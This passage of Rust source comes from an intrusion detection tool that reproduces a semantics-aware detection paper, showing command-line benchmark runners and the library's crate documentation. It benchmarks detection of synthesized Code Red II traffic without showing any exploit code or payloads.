    }

    let mut w = match PcapWriter::create(path) {
        Ok(w) => w,
        Err(e) => {
            eprintln!("cannot create {path}: {e}");
            return ExitCode::FAILURE;
        }
    };
    for p in &packets {
        if let Err(e) = w.write_packet(p) {
            eprintln!("write error: {e}");
            return ExitCode::FAILURE;
        }
    }
    if let Err(e) = w.finish() {
        eprintln!("flush error: {e}");
        return ExitCode::FAILURE;
    }
    eprintln!(
        "wrote {} packets ({} Code Red II instances from {:?}) to {path}",
        packets.len(),
        truth.crii_instances,
        truth.crii_sources
    );
    eprintln!(
        "analyze with: snids analyze {path} --honeypot {} --dark {}/16",
        plan.honeypots[0], plan.dark_net
    );
    ExitCode::SUCCESS
}

fn bench(args: &[String]) -> ExitCode {
    if args.iter().any(|a| a == "--desync") {
        return bench_desync(args);
    }
    if args.iter().any(|a| a == "--overload") {
        return bench_overload(args);
    }
    if args.iter().any(|a| a == "--prefilter") {
        return bench_prefilter(args);
    }
    if args.iter().any(|a| a == "--shard") {
        return bench_shard(args);
    }
    let flows = flag_value_u64(args, "--flows", 144) as usize;
    let cfg = snids::bench::throughput::BenchConfig {
        seed: flag_value_u64(args, "--seed", 2006),
        attack_flows: flows / 3,
        background_flows: flows - flows / 3,
        repeats: flag_value_u64(args, "--repeats", 3) as usize,
        ..snids::bench::throughput::BenchConfig::default()
    };
    eprintln!(
        "polymorphic storm: {} attack + {} benign flows, worker counts {:?}",
        cfg.attack_flows, cfg.background_flows, cfg.threads
    );
    let report = snids::bench::throughput::run(&cfg);
    print!("{}", snids::bench::throughput::render(&report));
    let out = flag_values(args, "--out")
        .first()
        .copied()
        .unwrap_or("BENCH_throughput.json");
    if let Err(e) = std::fs::write(out, snids::bench::throughput::to_json(&report)) {
        eprintln!("cannot write {out}: {e}");
        return ExitCode::FAILURE;
    }
    eprintln!("wrote {out}");
    if report.runs.iter().any(|r| !r.identical) {
        eprintln!("ALERT STREAMS DIVERGED ACROSS WORKER COUNTS");
        return ExitCode::FAILURE;
    }
    ExitCode::SUCCESS
}

fn bench_prefilter(args: &[String]) -> ExitCode {
    use snids::bench::prefilter;
    let mut cfg = prefilter::BenchConfig {
        seed: flag_value_u64(args, "--seed", 2006),
        repeats: flag_value_u64(args, "--repeats", 3) as usize,
        ..prefilter::BenchConfig::default()
    };
    if let Some(flows) = flag_values(args, "--flows")
        .first()
        .and_then(|v| v.parse::<usize>().ok())
    {
        let flows = flows.max(3);
        cfg.attack_flows = flows / 3;
        cfg.background_flows = flows - flows / 3;
    }
    eprintln!(
        "prefilter bench: {} attack + {} benign flows in the storm, {} tainted-benign sources x {} flows",
        cfg.attack_flows, cfg.background_flows, cfg.tainted_sources, cfg.flows_per_source,
    );
    let report = prefilter::run(&cfg);
    print!("{}", prefilter::render(&report));
    let out = flag_values(args, "--out")
        .first()
        .copied()
        .unwrap_or("BENCH_prefilter.json");
    if let Err(e) = std::fs::write(out, prefilter::to_json(&report)) {
        eprintln!("cannot write {out}: {e}");
        return ExitCode::FAILURE;
    }
    eprintln!("wrote {out}");
    if !report.identical || report.fn_delta > 0 {
        eprintln!("PRE-FILTER GATE CHANGED THE ALERT STREAM");
        return ExitCode::FAILURE;
    }
    if report.header_lane_pps < 1_000_000.0 {
        eprintln!(
            "warning: header lane {:.0} pkts/s below the 1M floor",
            report.header_lane_pps
        );
    }
    ExitCode::SUCCESS
}

fn bench_shard(args: &[String]) -> ExitCode {
    use snids::bench::shard;
    let mut cfg = shard::ShardBenchConfig {
        seed: flag_value_u64(args, "--seed", 2006),
        flood: flag_value_u64(args, "--flood", 1024) as usize,
        repeats: flag_value_u64(args, "--repeats", 3) as usize,
        ..shard::ShardBenchConfig::default()
    };
    if let Some(flows) = flag_values(args, "--flows")
        .first()
        .and_then(|v| v.parse::<usize>().ok())
    {
        cfg.planted_attacks = flows.max(1);
    }
    if let Some(spec) = flag_values(args, "--budget").first() {
        match parse_bytes(spec) {
            Some(bytes) if bytes > 0 => cfg.memory_budget = bytes,
            _ => {
                eprintln!("bad --budget `{spec}` (want BYTES > 0 with optional k/m/g suffix)");
                return ExitCode::from(2);
            }
        }
    }
    if let Some(list) = flag_values(args, "--shards").first() {
        let parsed: Option<Vec<usize>> = list
            .split(',')
            .map(|n| n.trim().parse::<usize>().ok().filter(|n| *n >= 1))
            .collect();
        match parsed {
            Some(counts) if !counts.is_empty() => cfg.shard_counts = counts,
            _ => {
                eprintln!("bad --shards `{list}` (want a comma-separated list of integers >= 1)");
                return ExitCode::from(2);
            }
        }
    }
    eprintln!(
        "shard sweep: {} planted attacks + {} flood flows, shard counts {:?}, budget {} bytes, mailbox {} deep",
        cfg.planted_attacks, cfg.flood, cfg.shard_counts, cfg.memory_budget, cfg.mailbox,
    );
    let report = shard::run(&cfg);
    print!("{}", shard::render(&report));
    let out = flag_values(args, "--out")
        .first()
        .copied()
        .unwrap_or("BENCH_shard.json");
    if let Err(e) = std::fs::write(out, shard::to_json(&report)) {
        eprintln!("cannot write {out}: {e}");
        return ExitCode::FAILURE;
    }
    eprintln!("wrote {out}");
    if !report.alerts_identical {
        eprintln!("ALERT STREAMS DIVERGED ACROSS SHARD COUNTS");
        return ExitCode::FAILURE;
    }
    ExitCode::SUCCESS
}

fn bench_desync(args: &[String]) -> ExitCode {
    use snids::bench::desync;
    let mut cfg = desync::DesyncBenchConfig {
        seed: flag_value_u64(args, "--seed", 2006),
        ..desync::DesyncBenchConfig::default()
    };
    if let Some(flows) = flag_values(args, "--flows")
        .first()
        .and_then(|v| v.parse::<usize>().ok())
    {
        let flows = flows.max(2);
        cfg.attack_flows = flows / 2;
        cfg.background_flows = flows - flows / 2;
    }
    eprintln!(
        "desync sweep: {} attack + {} benign flows, rates {:?}, policies {:?}",
        cfg.attack_flows,
        cfg.background_flows,
        cfg.rates,
        snids::flow::OverlapPolicy::ALL
            .iter()
            .map(|p| p.name())
            .collect::<Vec<_>>(),
    );
    let report = desync::run(&cfg);
    print!("{}", desync::render(&report));
    let out = flag_values(args, "--out")
        .first()
        .copied()
        .unwrap_or("BENCH_desync.json");
    if let Err(e) = std::fs::write(out, desync::to_json(&report)) {
        eprintln!("cannot write {out}: {e}");
        return ExitCode::FAILURE;
    }
    eprintln!("wrote {out}");
    if !report.zero_rate_identical {
        eprintln!("ALERT STREAMS DIVERGED ACROSS POLICIES AT FAULT RATE 0");
        return ExitCode::FAILURE;
    }
    ExitCode::SUCCESS
}

fn bench_overload(args: &[String]) -> ExitCode {
    use snids::bench::overload;
    let mut cfg = overload::OverloadBenchConfig {
        seed: flag_value_u64(args, "--seed", 2006),
        repeats: flag_value_u64(args, "--repeats", 3) as usize,
        ..overload::OverloadBenchConfig::default()
    };
    if let Some(flows) = flag_values(args, "--flows")
        .first()
        .and_then(|v| v.parse::<usize>().ok())
    {
        cfg.planted_attacks = flows.max(1);
    }
    if let Some(spec) = flag_values(args, "--budget").first() {
        match parse_bytes(spec) {
            Some(bytes) if bytes > 0 => cfg.memory_budget = bytes,
            _ => {
                eprintln!("bad --budget `{spec}` (want BYTES > 0 with optional k/m/g suffix)");
                return ExitCode::from(2);
            }
        }
    }
    eprintln!(
        "overload sweep: {} planted attacks, flood sizes {:?}, budget {} bytes, {} flow slots",
        cfg.planted_attacks, cfg.flood_sizes, cfg.memory_budget, cfg.max_flows,
    );
    let report = overload::run(&cfg);
    print!("{}", overload::render(&report));
    let out = flag_values(args, "--out")
        .first()
        .copied()
        .unwrap_or("BENCH_overload.json");
    if let Err(e) = std::fs::write(out, overload::to_json(&report)) {
        eprintln!("cannot write {out}: {e}");
        return ExitCode::FAILURE;
    }
    eprintln!("wrote {out}");
    if !report.zero_flood_identical {
        eprintln!("ALERT STREAMS DIVERGED BETWEEN GOVERNOR AND BASELINE AT FLOOD 0");
        return ExitCode::FAILURE;
    }
    if !report.detection_gate_holds() {
        eprintln!("GOVERNOR DID NOT STRICTLY BEAT THE SEED BASELINE UNDER FLOOD");
        return ExitCode::FAILURE;
    }
    if report.storm.ratio < 0.95 {
        eprintln!(
            "warning: storm throughput ratio {:.3} below the 0.95 target",
            report.storm.ratio
        );
    }
    ExitCode::SUCCESS
}

fn fleet(args: &[String]) -> ExitCode {
    use snids::bench::fleet;
    let exe = match std::env::current_exe() {
        Ok(p) => p,
        Err(e) => {
            eprintln!("cannot locate the snids binary to spawn workers: {e}");
            return ExitCode::FAILURE;
        }
    };
    let cfg = fleet::FleetConfig {
        exe,
        workers: flag_value_u64(args, "--workers", 3).max(1) as usize,
        seed: flag_value_u64(args, "--seed", 2006),
        packets: flag_value_u64(args, "--packets", 3_000) as usize,
        crii: flag_value_u64(args, "--crii", 3) as usize,
        flood: flag_value_u64(args, "--flood", 256) as usize,
        ..fleet::FleetConfig::default()
    };
    eprintln!(
        "fleet replay: {} workers over {} background packets + {} Code Red II + {} flood flows",
        cfg.workers, cfg.packets, cfg.crii, cfg.flood,
    );
    let report = fleet::run(&cfg);
    print!("{}", fleet::render(&report));
    print!("{}", report.merged_text_page());
    let out = flag_values(args, "--out")
        .first()
        .copied()
        .unwrap_or("BENCH_fleet.json");
    if let Err(e) = std::fs::write(out, fleet::to_json(&report)) {
        eprintln!("cannot write {out}: {e}");
        return ExitCode::FAILURE;
    }
    eprintln!("wrote {out}");
    if !report.union_identical {
        eprintln!("FLEET ALERT UNION DIVERGED FROM THE SINGLE-WORKER RUN");
        return ExitCode::FAILURE;
    }
    if !report.capture_matches || !report.ledger_balanced {
        eprintln!("FLEET CONSERVATION CHECK FAILED");
        return ExitCode::FAILURE;
    }
    if report.workers.iter().any(|w| !w.healthy) {
        eprintln!("warning: some workers could not be scraped; fleet page is partial");
    }
    ExitCode::SUCCESS
}

fn disasm(args: &[String]) -> ExitCode {
    let Some(path) = args.first() else {
        return usage();
    };
    let data = match std::fs::read(path) {
        Ok(d) => d,
        Err(e) => {
            eprintln!("cannot read {path}: {e}");
            return ExitCode::FAILURE;
        }
    };
    // Budgeted sweep: a hostile input file cannot buy unbounded work.
    let sweep = linear_sweep_budgeted(&data, &SweepBudget::default());
    if sweep.exhausted {
        eprintln!("note: disassembly budget exhausted; listing is partial");
    }
    print!("{}", fmt::listing(&data, &sweep.instructions));
    let matches = Analyzer::default().analyze(&data);
    if matches.is_empty() {
        eprintln!("\nsemantic analysis: clean");
        ExitCode::SUCCESS
    } else {
        eprintln!("\nsemantic analysis:");
        for m in &matches {
            eprintln!(
                "  {} [{}] at 0x{:x}..0x{:x}",
                m.template, m.severity, m.start, m.end
            );
        }
        ExitCode::FAILURE
    }
}
