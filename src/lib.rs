//! # snids — a network intrusion detection system with semantics-aware capability
//!
//! A production-quality Rust reproduction of *Scheirer & Chuah, "Network
//! Intrusion Detection with Semantics-Aware Capability" (IPPS 2006)*.
//!
//! The system segregates suspicious traffic from the regular flow, extracts
//! binary code from suspicious payloads, disassembles it, lifts it to an
//! intermediate representation, and matches it against **behavioural
//! templates** — so polymorphic and metamorphic exploit code is detected by
//! what it *does*, not how it is spelled.
//!
//! ## Quickstart
//!
//! ```
//! use snids::core::{Nids, NidsConfig};
//! use snids::gen::traces::{codered_capture, AddressPlan};
//! use rand::{rngs::StdRng, SeedableRng};
//!
//! // Synthesize a capture with two Code Red II instances planted in
//! // benign background traffic.
//! let plan = AddressPlan::default();
//! let mut rng = StdRng::seed_from_u64(1);
//! let (packets, truth) = codered_capture(&mut rng, &plan, 500, 2);
//!
//! // Assemble the five-stage pipeline and run the capture through it.
//! let mut nids = Nids::new(NidsConfig {
//!     honeypots: plan.honeypots.clone(),
//!     dark_nets: vec![(plan.dark_net, 16)],
//!     ..NidsConfig::default()
//! });
//! let alerts = nids.process_capture(&packets);
//!
//! // Every planted instance is classified suspicious and template-matched.
//! let hits: std::collections::HashSet<_> = alerts
//!     .iter()
//!     .filter(|a| a.template == "code-red-ii")
//!     .map(|a| a.src)
//!     .collect();
//! assert_eq!(hits.len(), truth.crii_sources.len());
//! ```
//!
//! ## Crate map
//!
//! | module | contents |
//! |---|---|
//! | [`packet`] | protocol headers, packet model, pcap I/O |
//! | [`flow`] | flow table, TCP stream reassembly |
//! | [`classify`] | honeypot + dark-address-space classification (§4.1) |
//! | [`extract`] | binary detection & extraction (§4.2) |
//! | [`x86`] | the from-scratch IA-32 disassembler (§4.3) |
//! | [`ir`] | canonical IR, execution-order traces, constant folding |
//! | [`semantic`] | templates and the matching engine (§3) |
//! | [`sig`] | Snort-style signature baseline |
//! | [`prefilter`] | three-lane vectorized pre-filter fast path |
//! | [`gen`] | workload generation (engines, exploits, traces) |
//! | [`core`] | the assembled five-stage pipeline (Figure 3) |
//! | [`exec`] | the work-stealing thread pool the pipeline runs on |
//! | [`obs`] | stage metrics, flight recorder, metrics exposition |
//! | [`mod@bench`] | experiment runners (paper tables/figures, throughput) |
//!
//! `ARCHITECTURE.md` at the workspace root walks one packet through all of
//! these layers.

pub use snids_bench as bench;
pub use snids_classify as classify;
pub use snids_core as core;
pub use snids_exec as exec;
pub use snids_extract as extract;
pub use snids_flow as flow;
pub use snids_gen as gen;
pub use snids_ir as ir;
pub use snids_obs as obs;
pub use snids_packet as packet;
pub use snids_prefilter as prefilter;
pub use snids_semantic as semantic;
pub use snids_sig as sig;
pub use snids_x86 as x86;
